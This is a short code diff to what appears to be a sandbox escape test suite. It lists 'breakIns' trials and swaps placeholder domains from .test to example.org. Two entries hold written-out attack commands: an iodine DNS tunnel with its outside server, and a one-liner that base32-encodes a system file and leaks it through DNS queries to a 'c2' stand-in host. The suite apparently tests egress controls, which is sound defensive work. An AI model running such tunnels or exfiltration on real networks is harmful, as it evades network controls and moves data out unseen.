@@ -13,16 +13,19 @@ export const breakIns: readonly Trial[] = [
   {
     name: 'iodine',
     about: 'iodine, a tunnel in DNS',
-    command: `iodine -f -r -P secret ${outside.site} t.tunnel.test & sleep 6; ping -i 0.2 -s 700 -c 60 10.99.0.1`,
+    command: `iodine -f -r -P secret ${outside.site} t.tunnel.example.org & sleep 6; ping -i 0.2 -s 700 -c 60 10.99.0.1`,
     secondsMax: 30,
     beside: [
-      ['outside', `iodined -f -c -P secret -l ${outside.site} 10.99.0.1 t.tunnel.test`] as const,
+      [
+        'outside',
+        `iodined -f -c -P secret -l ${outside.site} 10.99.0.1 t.tunnel.example.org`,
+      ] as const,
     ],
   },
   {
     name: 'dns-leak',
     about: 'a file in the names of DNS',
-    command: `head -c 3000 /etc/services | base32 -w 50 | tr -d = | while read x; do dig +time=1 +tries=1 @${router} $x.data.c2.test; done`,
+    command: `head -c 3000 /etc/services | base32 -w 50 | tr -d = | while read x; do dig +time=1 +tries=1 @${router} $x.data.c2.example.org; done`,
     secondsMax: 25,
   },
   {
